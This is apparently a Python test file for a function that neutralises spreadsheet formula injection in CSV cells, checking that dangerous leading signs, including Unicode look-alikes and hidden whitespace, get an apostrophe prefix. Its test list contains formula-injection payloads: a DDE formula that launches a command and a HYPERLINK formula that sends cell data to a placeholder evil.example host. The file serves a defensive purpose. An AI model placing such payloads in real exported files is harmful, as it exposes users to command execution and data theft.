from __future__ import annotations

import re
import sys
from unicodedata import category, normalize

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stroke.application.predictions.cells import (
    FORMULA,
    NUMBER_CELL,
    Cell,
    copied,
    is_no_value,
    neutral,
    number_of,
    restored,
    trimmed,
    value_of,
)

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\ufe661+1",
    "\ufe6bSUM(A1)",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00ad=1",
    "\u061c\u2066=1",
    "\ufe0f\u3164@x",
    "\U000e0020=1",
    "\x0b=1+1",
    "\x0c\x00=1+1",
    " \u3000\t\uff1d1",
    "+49 30 1234",
    "=",
    "+",
    "-x",
]
HARMLESS = ["Zoë", "O'Brien", "'tis", "1+1", "a=b", "-5", "+5.25", "-1e-3", "-", "--", "", "5-"]
# Texts that are dense in what the rule is about.
TEXTS = st.one_of(
    st.text(alphabet="'=+-@\t\r\n 1aé\uff1d\ufe63\u3000\u00a0\u200b\x00.,\"", max_size=6),
    st.text(),
    st.from_regex(NUMBER_CELL),
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert neutral(text) == copied(text) == f"'{text}"


def test_whatever_becomes_a_sign_in_unicodes_form_nfkc_is_one() -> None:
    signs = {chr(c) for c in range(sys.maxunicode) if normalize("NFKC", chr(c)) in set("=+-@")}
    assert {each for each in signs if neutral(f"{each}x") == f"{each}x"} == set()


def test_whatever_is_a_blank_or_a_control_character_hides_no_sign() -> None:
    unseen = {chr(c) for c in range(sys.maxunicode) if chr(c).isspace() or category(chr(c)) == "Cc"}
    assert {each for each in unseen if neutral(f"{each}=x") == f"{each}=x"} == set()


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_marks_and_other_texts_stay_as_they_are(text: str) -> None:
    assert neutral(text) == copied(text) == restored(text) == text


@given(TEXTS)
def test_what_is_written_is_what_is_read(text: str) -> None:
    assert restored(neutral(text)) == text


@given(TEXTS)
def test_nothing_that_is_written_begins_like_a_formula(text: str) -> None:
    for written in (neutral(text), copied(text)):
        harmless = is_no_value(written) or isinstance(number_of(written), float)
        assert harmless or re.match(FORMULA, written) is None


@given(TEXTS)
def test_a_copy_of_a_copy_is_the_same_and_means_the_same(text: str) -> None:
    assert copied(copied(text)) == copied(text)
    assert copied(neutral(text)) == neutral(text)
    assert restored(copied(text)) == restored(text)


@pytest.mark.parametrize("quoted", [True, False])
@pytest.mark.parametrize("text", FORMULAS)
def test_every_reader_takes_the_apostrophe_away(text: str, *, quoted: bool) -> None:
    found = value_of("name", Cell(neutral(text), quoted, 0))
    assert found == (text if quoted else trimmed(text))
